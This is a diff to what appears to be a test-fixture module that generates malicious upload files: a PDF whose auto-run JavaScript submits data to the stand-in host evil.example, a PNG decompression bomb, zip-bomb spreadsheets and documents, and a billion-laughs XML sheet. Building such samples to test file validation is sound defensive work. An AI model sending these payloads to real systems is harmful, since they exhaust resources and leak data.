@@ -37,7 +37,8 @@ SVG = (
 PDF_WITH_JAVASCRIPT = (
     b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n"
     b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
-    b"3 0 obj << /S /JavaScript /JS (app.alert\\('x'\\); this.submitForm\\('http://evil.example'\\)) >> endobj\n"
+    b"3 0 obj << /S /JavaScript\n"
+    b"/JS (app.alert\\('x'\\); this.submitForm\\('http://evil.example'\\)) >> endobj\n"
     b"trailer << /Root 1 0 R >>\n%%EOF\n"
 )
 EMPTY = b""
@@ -62,6 +63,24 @@ def png(width: int = 4, height: int = 4) -> bytes:
     output = io.BytesIO()
     Image.new("RGBA", (width, height), (200, 0, 0, 255)).save(output, "PNG")
     return output.getvalue()
+
+
+def png_header_only(width: int, height: int) -> bytes:
+    """A PNG that declares `width` × `height` pixels (a decompression bomb once decoded) but
+    carries one row: built by hand, so making it costs nothing."""
+    import struct
+    import zlib
+
+    def chunk(kind: bytes, body: bytes) -> bytes:
+        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
+
+    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", header)
+        + chunk(b"IDAT", zlib.compress(b"\x00" * (width * 4 + 1)))
+        + chunk(b"IEND", b"")
+    )
 
 
 def png_polyglot() -> bytes:
@@ -111,12 +130,12 @@ def docx(text: str = "学习笔记") -> bytes:
     return output.getvalue()
 
 
-def zip_bomb_xlsx(unpacked_mb: int = 24) -> bytes:
+def zip_bomb_xlsx(unpacked_mb: int = 12) -> bytes:
     """A small .xlsx (tens of KB) whose one extra part inflates to `unpacked_mb` MB of zeros."""
     return _rezip(workbook([["姓名"], ["张三"]]), {}, {"xl/media/padding.bin": b"\x00" * (unpacked_mb << 20)})
 
 
-def zip_bomb_docx(unpacked_mb: int = 24) -> bytes:
+def zip_bomb_docx(unpacked_mb: int = 12) -> bytes:
     output = io.BytesIO()
     with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
@@ -129,7 +148,8 @@ def billion_laughs_xlsx() -> bytes:
     """An .xlsx whose worksheet declares nested entities (a billion laughs) and uses the last."""
     sheet = (
         BILLION_LAUGHS + '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
-        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
+        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData>'
+        "</worksheet>"
     ).encode()
     return _rezip(workbook([["x"]]), {"xl/worksheets/sheet1.xml": sheet})
 
